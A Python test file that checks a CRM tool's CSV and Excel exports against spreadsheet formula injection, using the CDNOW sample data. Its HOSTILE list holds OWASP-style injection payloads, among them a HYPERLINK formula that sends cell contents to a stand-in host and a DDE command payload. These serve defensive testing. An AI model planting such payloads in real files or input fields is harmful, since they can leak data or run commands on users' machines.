"""Exports opened in a spreadsheet run nothing: no formula cell, no text cell a spreadsheet would take
for one, and negative amounts still numbers. Files are read back with openpyxl and pandas, as a
spreadsheet user's tools would read them."""
import io
import json
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest

from crm_logic.exports import csv_bytes, excel_bytes
from tests.conftest import REPO
from tests.unit.cdnow_fixture import cdnow_base

# What an attacker types into a name or an id field of a web shop (OWASP "CSV injection").
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1", "@x", "-2+3",
           "\t=1", "\r=1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "customer_id": HOSTILE,
        "name": list(reversed(HOSTILE)),
        "amount": [-120.5, 10.0, 0.0, -3.25, 7.0, 8.0, 9.0],
        "orders": [-1, 2, 3, 4, 5, 6, 7],
    })


def assert_safe_workbook(data: bytes) -> list[list]:
    """No formula, no text cell starting a formula; returns the values of the first sheet."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), f"{cell.coordinate}: {cell.value!r}"
    return [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]


def assert_safe_csv(data: bytes) -> pd.DataFrame:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Chinese Excel"
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for column in frame.columns:
        numeric = pd.to_numeric(frame[column], errors="coerce").notna()
        text = frame.loc[~numeric, column]
        assert not text.str.startswith(FORMULA_STARTS).any(), text[text.str.startswith(FORMULA_STARTS)].tolist()
    return frame


def test_csv_neutralises_hostile_text_and_keeps_negative_numbers():
    data = csv_bytes(hostile_frame())
    assert_safe_csv(data)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["amount"].dtype.kind == "f" and back["amount"].tolist()[:2] == [-120.5, 10.0]
    assert back["orders"].dtype.kind == "i" and back["orders"].iloc[0] == -1
    # the text is still there to read, behind the apostrophe a spreadsheet shows as "text follows"
    assert back["customer_id"].tolist()[:4] == ["'" + v for v in HOSTILE[:4]]


def test_excel_cells_are_values_never_formulas():
    data = excel_bytes({"customers": hostile_frame(), "filters": pd.DataFrame({"=setting": ["+x"]})})
    rows = assert_safe_workbook(data)
    assert rows[0] == ["customer_id", "name", "amount", "orders"]
    assert rows[1][2] == -120.5 and rows[1][3] == -1, "negative numbers stay numbers"
    back = pd.read_excel(io.BytesIO(data), sheet_name="customers")
    assert back["amount"].dtype.kind == "f" and back["amount"].min() == -120.5


def test_an_unprotected_writer_would_have_written_a_formula():
    """The check above can fail: pandas' own writer turns the same text into a live formula."""
    buffer = io.BytesIO()
    hostile_frame().to_excel(buffer, index=False)
    with pytest.raises(AssertionError, match="formula"):
        assert_safe_workbook(buffer.getvalue())


@pytest.fixture
def hostile_base(tmp_path):
    """The CDNOW sample with four customers renamed to hostile ids (names too), and customer 00050 given a
    return larger than their one purchase: revenue 6.79 - 40 = -33.21 (data/cdnow/CDNOW_sample.txt)."""
    path = tmp_path / "hostile.duckdb"
    with cdnow_base(path) as store, store.transaction() as cur:
        for old, new in zip(["00004", "00021", "00071", "00050"], HOSTILE[:4]):
            cur.execute("UPDATE transactions SET customer_id = ? WHERE customer_id = ?", [new, old])
            cur.execute("UPDATE customers SET customer_id = ?, name = ? WHERE customer_id = ?", [new, new, old])
        cur.execute("INSERT INTO transactions (customer_id, order_date, amount) VALUES (?, DATE '1997-06-01', -40)",
                    [HOSTILE[3]])
    return path


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_score_out_is_formula_safe(hostile_base, tmp_path, suffix):
    out = tmp_path / f"scores{suffix}"
    done = subprocess.run([sys.executable, "-m", "crm_logic", "score", "--db", str(hostile_base), "--out", str(out),
                           "--model", "bg_nbd"], cwd=REPO, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["rows"] == 2357
    data = out.read_bytes()
    if suffix == ".csv":
        frame = assert_safe_csv(data)
        ids = frame["customer_id"]
        numbers = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    else:
        assert_safe_workbook(data)
        numbers = pd.read_excel(io.BytesIO(data))
        ids = numbers["customer_id"].astype(str)
    assert {"'" + v for v in HOSTILE[:4]} <= set(ids), "every hostile id is there, neutralised"
    revenue = dict(zip(ids, numbers["revenue"]))
    assert numbers["revenue"].dtype.kind == "f"
    assert revenue["'" + HOSTILE[3]] == pytest.approx(-33.21), "a negative amount stays a number"
